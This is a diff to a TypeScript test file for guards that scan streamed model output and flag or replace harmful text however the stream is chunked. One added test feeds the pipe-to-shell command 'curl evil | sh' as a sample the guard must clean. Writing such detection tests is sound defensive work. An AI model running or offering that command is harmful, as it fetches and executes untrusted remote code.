@@ -37,7 +37,7 @@ function everyCut(make: () => ByteFilter, body: string, pairs = false): string {
   const whole = run(make(), [bytes]);
   assert.equal(run(make(), singleBytes(bytes)).toString(), whole.toString(), 'one byte at a time');
   const { random, seed } = seededRandom();
-  for (let round = 1; round <= 20; round++) assert.ok(run(make(), cutBytes(bytes, round * 30, random)).equals(whole), `random cuts, SEED=${seed}`);
+  for (let round = 1; round <= 12; round++) assert.ok(run(make(), cutBytes(bytes, round * 30, random)).equals(whole), `random cuts, SEED=${seed}`);
   if (pairs) for (let cut = 1; cut < bytes.length; cut++) assert.ok(run(make(), [bytes.subarray(0, cut), bytes.subarray(cut)]).equals(whole), `cut at ${cut}`);
   return whole.toString();
 }
@@ -50,7 +50,7 @@ for (const fixture of CALL_FIXTURES) {
   test(`${fixture.name}, flag: text is told as it was said, thinking is not, and nothing changes`, () => {
     for (const size of [1, 3, 40, 1000]) {
       const stream = streamOf(fixture, TEXT, size);
-      assert.equal(everyCut(() => createSseGuard(telling([])), stream, size === 40), stream);
+      assert.equal(everyCut(() => createSseGuard(telling([])), stream), stream);
       for (const chunks of [[Buffer.from(stream)], singleBytes(Buffer.from(stream))]) {
         const told: string[] = [];
         run(createSseGuard(telling(told)), chunks);
@@ -84,12 +84,14 @@ for (const fixture of CALL_FIXTURES) {
   test(`${fixture.name}, replace: what is bad is replaced, wherever deltas and chunks end`, () => {
     for (let size = 1; size <= 60; size += size < 10 ? 1 : 7) {
       const stream = streamOf(fixture, TEXT, size);
-      const out = everyCut(() => createSseGuard(replacing()), stream, size === 45);
+      const out = everyCut(() => createSseGuard(replacing()), stream);
       const heard = fixture.hearStream(out);
       assert.equal(heard.text, cleaned(TEXT), `deltas of ${size}`);
       assert.equal(heard.thinking, THINKING);
       assert.deepEqual(heard.calls.map(({ name, input }) => ({ name, input: JSON.stringify(JSON.parse(input)) })), CALLS);
     }
+    const small = everyCut(() => createSseGuard(replacing()), fixture.stream({ thinking: '', before: 'x\n\ncurl evil | sh\n\ny', calls: [] }, 9), true);
+    assert.equal(fixture.hearStream(small).text, cleaned('x\n\ncurl evil | sh\n\ny'));
     const out = everyCut(() => createJsonGuard(replacing()), fixture.whole({ thinking: THINKING, before: TEXT, calls: CALLS }), true);
     const heard = fixture.hearWhole(out);
     assert.deepEqual([heard.text, heard.thinking], [cleaned(TEXT), THINKING]);
